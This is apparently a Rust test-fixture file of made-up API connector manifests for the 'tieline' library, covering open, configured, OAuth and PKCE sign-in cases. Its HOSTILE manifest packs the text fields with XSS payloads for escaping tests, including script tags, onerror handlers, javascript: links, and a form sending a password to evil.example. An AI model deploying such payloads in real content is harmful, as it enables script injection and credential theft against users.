//! Connectors that are made up for tests; their APIs are played by the vendor.

use tieline::Connector;
use tieline::source::Source;

/// The connector of a manifest.
pub(crate) fn connector(text: &str) -> Connector {
    Connector::load(&Source::new("test.yaml", text)).map_err(|all| all.render(false)).unwrap().0
}

/// Needs no sign-in, and says nothing about how to try it.
pub(crate) const OPEN: &str = r#"
tieline: 1
name: open
title: Open Weather
version: 0.1.0
summary: The weather of tomorrow, for everybody.
server: https://open.example
entities: { things: { actions: { list: { get: /things } } } }
"#;

/// Values of every kind.
pub(crate) const KINDS: &str = r#"
tieline: 1
name: kinds
title: Kinds
version: 0.1.0
summary: An API with settings of every kind.
server: "https://${config.site}.kinds.example"
config:
  site: { title: Site, description: Name of the site, required: true, pattern: "[a-z][a-z0-9-]*", example: acme }
  plan: { title: Plan, enum: [free, paid], default: free }
  size: { title: Page size, type: integer }
  sandbox: { title: Sandbox, type: boolean }
  teams: { title: Teams, type: list }
auth:
  key:
    title: Key
    setup: Open *Settings*.
    link: http://kinds.example/keys
    fields:
      email: { title: E-mail, example: me@kinds.example }
      region: { title: Region, enum: [eu, us] }
      api_key: { title: API key, secret: true, prefix: [k-] }
    headers: { X-Key: "${api_key}", X-Email: "${email}", X-Region: "${region}" }
check: things.list
entities: { things: { actions: { list: { get: /things } } } }
"#;

/// Signs in with a refresh token that somebody has obtained by hand.
pub(crate) const REFRESH: &str = r#"
tieline: 1
name: refresh
title: Refresh
version: 0.1.0
summary: An API whose refresh tokens work once.
server: https://refresh.example
auth:
  oauth:
    fields:
      client_id: {}
      client_secret: { secret: true }
      refresh_token: { secret: true }
    oauth2:
      token: { url: "https://refresh.example/v1/oauth/token", client: basic, body: json }
check: things.list
entities: { things: { actions: { list: { get: /things } } } }
"#;

/// Signs in with PKCE, as RFC 7636 has it, at a token endpoint that takes forms.
pub(crate) const PKCE: &str = r#"
tieline: 1
name: pkce
title: Proof Keys
version: 0.1.0
summary: An API that wants proof.
server: https://pkce.example
auth:
  oauth:
    fields:
      client_id: { title: Client ID }
      access_token: { secret: true }
      refresh_token: { secret: true, required: false }
    oauth2:
      authorize: { url: "https://pkce.example/v1/oauth/authorize" }
      token: { url: "https://pkce.example/v1/oauth/token", client: none }
      scopes: [read, write]
check: things.list
entities: { things: { actions: { list: { get: /things } } } }
"#;

/// Every text is an attempt to be more than text.
pub(crate) const HOSTILE: &str = r#"
tieline: 1
name: hostile
title: "<script>alert('title')</script>\"'><b>"
version: 0.1.0
summary: "</p></main><img src=x onerror=alert(1)> \u202Esummary"
server: https://hostile.example
config:
  extra: { title: "<i>config</i>", description: "\" onfocus=alert(1) x=\"", default: "<u>default</u>" }
auth:
  key:
    title: "<script>way</script>"
    description: "<iframe src=//evil.example></iframe>"
    setup: |
      <script>alert(1)</script>

      [go](javascript:alert(1)) [web](https://good.example/) ![pixel](https://evil.example/p.png)

      # Heading

      <form action="https://evil.example"><input name=password></form>
    link: "javascript:alert(1)"
    fields:
      secret: { title: "<svg onload=alert(1)>", description: "{{{title}}} {{> form}}", secret: true }
    headers: { X-Key: '${secret}' }
  other: { title: Other, fields: { key: { secret: true } }, bearer: "${key}" }
entities: { things: { actions: { list: { get: /things } } } }
"#;
